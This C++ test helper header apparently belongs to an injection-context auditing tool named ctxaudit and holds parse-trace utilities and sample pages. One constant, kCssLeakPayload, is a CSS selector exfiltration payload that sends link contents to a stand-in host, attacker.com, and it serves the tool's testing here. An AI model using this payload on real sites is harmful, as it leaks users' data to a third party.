#pragma once

#include <random>
#include <string>
#include <string_view>
#include <vector>

#include "ctxaudit/catalog.hpp"
#include "ctxaudit/engine.hpp"

namespace test {

inline std::vector<std::string> label_names(const ctxaudit::ParseTrace& trace) {
  std::vector<std::string> out;
  for (ctxaudit::StateId id : trace.labels) out.push_back(ctxaudit::qualified_name(id));
  return out;
}

inline std::string name_at(const ctxaudit::ParseTrace& trace, std::size_t index) {
  return ctxaudit::qualified_name(trace.labels.at(index));
}

inline std::vector<std::size_t> event_indices(const ctxaudit::ParseTrace& trace, bool include_virtual = true) {
  std::vector<std::size_t> out;
  for (const ctxaudit::TransitionEvent& e : trace.events) {
    if (!include_virtual && ctxaudit::state_name(e.to) == "Automatic_Semicolon_Insertion") continue;
    out.push_back(e.index);
  }
  return out;
}

inline bool is_asi(const ctxaudit::TransitionEvent& event) {
  return ctxaudit::state_name(event.to) == "Automatic_Semicolon_Insertion";
}

// Events recomputed from labels alone, i.e. without the virtual ones.
inline std::vector<ctxaudit::TransitionEvent> real_events(const ctxaudit::ParseTrace& trace) {
  std::vector<ctxaudit::TransitionEvent> out;
  for (const ctxaudit::TransitionEvent& e : trace.events) {
    if (!is_asi(e)) out.push_back(e);
  }
  return out;
}

// The CSS selector exfiltration payload reflected into a style block.
inline const std::string kCssLeakPayload =
    "\"}; a[href*='A'] {\n"
    "   background: url(attacker.com?A); }\n"
    "a[href*='S'] {\n"
    "   background: url(attacker.com?S); }\n"
    "a[href*='S'][href*='E'][href*='C'][href*='R']{\n"
    "   background: url(attacker.com?SECR); }";

// A page whose script assigns `value` to a string; with value "admin" the
// closing quote sits at byte 56.
inline std::string script_string_document(std::string_view value) {
  return "<html>\n<body>\n<h1>Hello!</h1>\n<script>\nvar user = \"" + std::string(value) +
         "\";\ndocument.write(user);\n</script>\n</body>\n</html>\n";
}

inline std::string random_from(std::mt19937_64& rng, std::string_view alphabet, std::size_t length) {
  std::uniform_int_distribution<std::size_t> pick(0, alphabet.size() - 1);
  std::string out;
  for (std::size_t i = 0; i < length; ++i) out.push_back(alphabet[pick(rng)]);
  return out;
}

}  // namespace test
